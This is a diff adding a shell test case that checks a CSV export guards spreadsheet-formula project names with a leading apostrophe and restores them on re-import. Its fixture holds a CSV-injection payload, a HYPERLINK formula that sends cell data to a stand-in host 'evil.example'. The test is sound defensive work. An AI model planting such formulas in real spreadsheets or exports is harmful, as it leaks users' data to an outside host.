@@ -81,6 +81,42 @@ case_awkward_values_roundtrip() {
 }
 run_case "awkward values: export, import, export again" case_awkward_values_roundtrip
 
+# The review: a project named =HYPERLINK("http://evil.example/?x="&A1,"click")
+# came out of a CSV export as it was, and Excel ran it.  Names and memos that a
+# spreadsheet would read as a formula are written with a leading ', and a
+# re-import restores them exactly.
+case_formulas_are_neutralised() {
+    local db
+    db=$(demo_db formulas)
+    {
+        echo "$PROJECTS_HEADER"
+        project_row code=F-1 name='"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"'
+        project_row code=F-2 name='+1+1'
+        project_row code=F-3 name='-2+3'
+        project_row code=F-4 name='@SUM(A1)'
+        project_row code=F-5 name="'=not a formula"
+        project_row code=F-6 name="''two quotes"
+        project_row code=F-7 name="'小而美'项目"
+        project_row code=F-8 name='a=1 in the middle'
+    } >formulas.csv
+    expect_exit 0 "$PAIRAID" --db "$db" import projects formulas.csv
+    expect_eq "stored as typed (a ' before = + - @ ' is Excel's text mark)" \
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")|+1+1|-2+3|@SUM(A1)|=not a formula|'two quotes|'小而美'项目|a=1 in the middle" \
+        "$(sqlite3 "$db" "select group_concat(name, '|') from (select name from projects where code like 'F-%' order by code)")"
+    expect_exit 0 "$PAIRAID" --db "$db" export projects
+    grep -qF 'F-1,"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",' "$OUT" ||
+        fail "F-1 is not guarded: $(grep '^F-1' "$OUT")"
+    local want
+    # a value starting with ' gets one more, so that Excel shows it as stored
+    for want in "F-2,'+1+1," "F-3,'-2+3," "F-4,'@SUM(A1)," "F-5,'=not a formula," \
+        "F-6,''two quotes," "F-7,''小而美'项目," "F-8,a=1 in the middle,"; do
+        grep -qF -- "$want" "$OUT" || fail "export lacks '$want': $(grep "^${want%%,*}," "$OUT")"
+    done
+    if grep -E '^F-[0-9],"?[=+@-]' "$OUT"; then fail "a formula reached the export unguarded"; fi
+    roundtrip "$db" formulas
+}
+run_case "formulas in names and memos are neutralised, and re-import exactly" case_formulas_are_neutralised
+
 # ---- regions ----------------------------------------------------------------------------
 
 case_export_regions() {
